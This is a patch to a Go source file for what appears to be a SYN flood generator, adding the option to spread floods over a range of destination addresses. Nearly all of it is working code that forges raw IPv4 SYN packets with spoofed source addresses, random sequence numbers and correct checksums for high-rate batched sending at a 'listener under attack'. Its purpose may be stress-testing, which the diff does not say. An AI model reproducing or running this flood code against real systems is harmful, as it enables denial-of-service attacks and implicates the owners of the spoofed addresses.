@@ -26,12 +26,16 @@ import (
 // Config bounds a flood. At least one of Count, Duration or the context
 // must end it.
 type Config struct {
-	Target   netip.AddrPort // IPv4 listener under attack
-	Sources  netip.Prefix   // spoofed source addresses are drawn from here
-	Rate     int            // SYN/s; 0 sends as fast as the socket takes them
-	Count    int            // stop after this many SYNs; 0 = no count bound
-	Duration time.Duration  // stop after this long; 0 = no time bound
-	Seed     uint64         // 0 → random; otherwise replayable addresses, ports and ISNs
+	Target  netip.AddrPort // IPv4 listener under attack
+	Sources netip.Prefix   // spoofed source addresses are drawn from here
+	// Dests, if valid, spreads the SYNs over destination addresses drawn
+	// from it (Target's port stays); they go out by Target's route, so
+	// the prefix must be routed the same way (a forwarder's range).
+	Dests    netip.Prefix
+	Rate     int           // SYN/s; 0 sends as fast as the socket takes them
+	Count    int           // stop after this many SYNs; 0 = no count bound
+	Duration time.Duration // stop after this long; 0 = no time bound
+	Seed     uint64        // 0 → random; otherwise replayable addresses, ports and ISNs
 }
 
 // batchSize is the number of SYNs handed to one sendmmsg(2).
@@ -191,6 +195,8 @@ type generator struct {
 	base     uint32 // first address of Sources
 	size     uint32 // number of addresses in Sources (≥ 1)
 	dst      [4]byte
+	dstBase  uint32 // first address of Dests, with dstSize > 0
+	dstSize  uint32
 	dstPort  uint16
 	template [synLen]byte
 }
@@ -207,6 +213,10 @@ func newGenerator(cfg Config, seed uint64) *generator {
 	}
 	if p.Bits() == 0 {
 		g.size = 0 // 2^32: the whole space; Uint32 below covers it
+	}
+	if d := cfg.Dests.Masked(); d.IsValid() && d.Addr().Is4() && d.Bits() > 0 {
+		da := d.Addr().As4()
+		g.dstBase, g.dstSize = binary.BigEndian.Uint32(da[:]), uint32(1)<<(32-d.Bits())
 	}
 	t := g.template[:]
 	t[0] = 0x45 // version 4, IHL 5
@@ -236,6 +246,11 @@ func (g *generator) fill(b []byte) {
 		src = g.base + uint32(r)%g.size
 	}
 	binary.BigEndian.PutUint32(b[12:16], src)
+	dst := g.dst
+	if g.dstSize > 0 {
+		binary.BigEndian.PutUint32(dst[:], g.dstBase+g.rng.Uint32()%g.dstSize)
+		copy(b[16:20], dst[:])
+	}
 	binary.BigEndian.PutUint16(b[4:6], uint16(r>>32)) // IP ID
 	binary.BigEndian.PutUint16(b[10:12], ^wire.Checksum(b[:ipHeaderLen], 0))
 
@@ -245,7 +260,7 @@ func (g *generator) fill(b []byte) {
 	binary.BigEndian.PutUint32(tcp[4:], g.rng.Uint32()) // ISN
 	var s [4]byte
 	binary.BigEndian.PutUint32(s[:], src)
-	ph := wire.PseudoHeaderSum(netip.AddrFrom4(s), netip.AddrFrom4(g.dst), unix.IPPROTO_TCP, tcpHeaderLen)
+	ph := wire.PseudoHeaderSum(netip.AddrFrom4(s), netip.AddrFrom4(dst), unix.IPPROTO_TCP, tcpHeaderLen)
 	binary.BigEndian.PutUint16(tcp[16:], ^wire.Checksum(tcp, ph))
 }
 
